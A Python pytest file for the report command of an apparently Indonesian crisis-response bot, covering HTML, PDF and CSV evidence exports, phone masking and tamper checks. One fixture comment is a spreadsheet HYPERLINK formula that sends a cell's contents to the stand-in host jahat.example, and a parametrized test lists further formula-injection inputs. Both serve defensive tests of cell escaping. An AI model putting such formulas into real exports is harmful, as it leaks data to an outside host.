"""`tanggap report`: what a terminal shows, what the files hold, and a raid of ten thousand comments."""

import asyncio
import csv
import io
import sys
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import Result
from fakes import comment
from pypdf import PdfReader
from small_office import CONFIG, TOKEN
from typer.testing import CliRunner

from bot.app import opened_quietly
from bot.assembly import Services
from bot.chat.report.pdf_kit import available
from bot.cli import app
from bot.cli.evidence_file import harmless
from bot.clock import FakeClock
from bot.domain.case import CaseId
from bot.domain.comment import Verdict
from bot.domain.incident import RunId
from bot.domain.people import Person, PersonId, Role, Zone
from bot.files.config import load_settings
from bot.services.evidence import text_sha
from bot.services.tap import Tap
from bot.services.templates import short_name
from bot.store.database import Database

SEKAR = Person(PersonId("sekar"), "Sekar", frozenset({Role.KOORDINATOR, Role.PENGELOLA}), Zone.WIB)
START = datetime(2026, 11, 23, 14, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://jahat.example/?"&A1)'


class Desk:
    """A folder with a config and a database, and the command."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.config, self.clock = folder, folder / "config.yaml", FakeClock(START)
        self.config.write_text(CONFIG, encoding="utf-8")

    def __call__(self, *arguments: str | Path) -> Result:
        words = ["report", *map(str, arguments), "--config", str(self.config)]
        return CliRunner().invoke(app, words, env={"TANGGAP_BOT_TOKEN": TOKEN})

    def lives(self, story: Callable[[Services, Database], Awaitable[None]]) -> None:
        async def go() -> None:
            settings = load_settings(self.config, {"TANGGAP_BOT_TOKEN": TOKEN})
            async with opened_quietly(settings, self.clock) as (services, database):
                await story(services, database)

        asyncio.run(go())


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


async def opened(services: Services, clock: FakeClock, cause: str = "u:1") -> RunId:
    tap = Tap(SEKAR, 0, 0, cause, clock.now())
    return (await services.incidents.open_by_hand(tap, short_name("hoaks-viral"), None)).run


def raid(desk: Desk, count: int) -> None:
    """A run with so many comments, ten of them a second."""

    async def story(services: Services, database: Database) -> None:
        run = await opened(services, desk.clock)
        case = (await services.intake.receive(comment("Benarkah airnya beracun?"), "u:2")).case
        async with database.transaction() as tx:
            for number in range(count):
                at = START + timedelta(seconds=number / 10)
                text = FORMULA if number == 3 else f"Airnya beracun! Telepon saya 0812-3456-{number:04d}"
                one = comment(text, author=f"tg:{number % 700}", at=at)
                kept = await tx.comments.add(one, case, Verdict(labels=("hoax",)))
                await tx.runs.add_evidence(run, kept, text_sha(text), at)
        desk.clock.advance(count / 10 + 60)
        tap = Tap(SEKAR, run, 1, "u:9", desk.clock.now())
        await services.incidents.false_alarm(tap, "Sudah dijelaskan.")

    desk.lives(story)


def test_a_raid_of_ten_thousand_is_told_in_a_few_pages_and_kept_whole_beside_them(desk: Desk) -> None:
    raid(desk, 10_000)
    files = [desk.folder / name for name in ("k1.html", "k1.pdf", "bukti.csv")]
    done = desk("K-1", "--html", files[0], "--pdf", files[1], "--evidence", files[2])
    assert done.exit_code == 0, done.output
    assert files[0].stat().st_size < 300_000
    page = files[0].read_text("utf-8")
    assert "9.900 komentar lain tidak dicetak di sini" in page
    assert "10.000 komentar terkait tercatat" in page
    assert len(PdfReader(files[1]).pages) < 20
    rows = list(csv.DictReader(io.StringIO(files[2].read_text("utf-8-sig"))))
    assert len(rows) == 10_000
    assert {row["cocok"] for row in rows} == {"cocok"}
    assert rows[3]["isi"] == f"'{FORMULA}"
    assert rows[10]["isi"] == "Airnya beracun! Telepon saya ****-****-****"
    assert len({row["warga"] for row in rows}) == 700


@pytest.mark.parametrize("cell", ["=1+1", " =1", "'=1", '"+62', "@SUM", "-3", "\t=1", "\r=1"])
def test_no_cell_is_run_by_a_spreadsheet(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
    assert harmless("biasa - saja") == "biasa - saja"


def test_a_changed_comment_is_seen(desk: Desk) -> None:
    raid(desk, 5)

    async def tamper(_: Services, database: Database) -> None:
        async with database.transaction() as tx:
            await tx.runs.add_evidence(
                RunId(1), (await tx.comments.of_case(CaseId(1)))[0].id, "0" * 64, START
            )

    desk.lives(tamper)
    page = desk.folder / "k.html"
    assert desk("--last", "--html", page).exit_code == 0
    assert "1 komentar tidak lagi sama dengan sidik" in page.read_text("utf-8")


def test_without_a_file_the_terminal_has_the_summary(desk: Desk) -> None:
    raid(desk, 5)
    said = desk("k-1")
    assert said.exit_code == 0, said.output
    lines = said.output.splitlines()
    assert lines[0] == "Laporan krisis: Hoaks yang sedang viral"
    assert "Hoaks yang sedang viral dibuka Senin, 23 November 2026 pukul 21.30 WIB oleh Sekar." in lines
    assert any(line.startswith("  Komentar terkait: 5") for line in lines)
    assert not any("Memanggil" in line for line in lines)


def test_a_month_is_told_with_the_middle_and_the_worst(desk: Desk) -> None:
    async def story(services: Services, _: Database) -> None:
        for number, minutes in enumerate((4, 6, 30)):
            run = await opened(services, desk.clock, f"u:{number}")
            desk.clock.advance(minutes * 60)
            tap = Tap(SEKAR, run, 1, f"u:1{number}", desk.clock.now())
            await services.incidents.acknowledge(tap)
        await opened(services, desk.clock, "u:99")

    desk.lives(story)
    said = desk("--since", "2026-11-01", "--until", "2026-11-30")
    assert said.exit_code == 0, said.output
    assert "Laporan periode: 1 November 2026 sampai 30 November 2026" in said.output
    assert "  Sampai ditangani · 6 menit · 30 menit · 3 dari 4" in said.output
    assert "Insiden (4)" in said.output
    empty = desk("--since", "2025-01-01", "--until", "2025-01-31")
    assert "Tidak ada insiden yang dibuka dalam waktu ini." in empty.output


def test_a_record_is_about_one_person(desk: Desk) -> None:
    raid(desk, 5)
    said = desk("--person", "sekar", "--since", "2026-11-01", "--until", "2026-12-31")
    assert said.exit_code == 0, said.output
    assert (
        "K-1 Hoaks yang sedang viral (23 November 2026): membuka insiden dan menyatakan alarm palsu."
        in said.output
    )
    assert "Laras" not in said.output


@pytest.mark.parametrize(
    ("arguments", "answer"),
    [
        ([], "Pilih satu"),
        (["K-1", "--last"], "Pilih satu"),
        (["tiga"], "bukan nomor insiden"),
        (["K-9"], "Insiden itu tidak ditemukan."),
        (["--last"], "Insiden itu tidak ditemukan."),
        (["--since", "kemarin"], "bukan tanggal"),
        (["--since", "2026-02-02", "--until", "2026-01-01"], "lebih awal"),
        (["--person", "siapa"], "Orang itu tidak ada di daftar tim."),
        (["--since", "2026-01-01", "--evidence", "x.csv"], "hanya untuk satu insiden"),
    ],
)
def test_what_cannot_be_done_is_said_with_what_to_do(desk: Desk, arguments: list[str], answer: str) -> None:
    said = desk(*arguments)
    assert said.exit_code in {1, 2}
    assert answer in said.output
    assert "Traceback" not in said.output


def test_a_place_where_nothing_can_be_written_is_named(desk: Desk) -> None:
    raid(desk, 1)
    for option in ("--html", "--pdf", "--evidence"):
        said = desk("--last", option, desk.folder / "tidak-ada" / "berkas")
        assert said.exit_code == 1
        assert "tidak dapat ditulis" in said.output


@pytest.fixture
def without_pdf(monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine on which the extra was never installed."""
    for name in [name for name in sys.modules if name.partition(".")[0] == "reportlab"]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "reportlab", None)


@pytest.mark.usefixtures("without_pdf")
def test_without_the_extra_the_answer_names_it_and_html_goes_on(desk: Desk) -> None:
    raid(desk, 1)
    assert not available()
    said = desk("--last", "--pdf", desk.folder / "k.pdf")
    assert said.exit_code == 2
    assert "pip install -e '.[pdf]'" in said.output
    assert not (desk.folder / "k.pdf").exists()
    assert desk("--last", "--html", desk.folder / "k.html").exit_code == 0
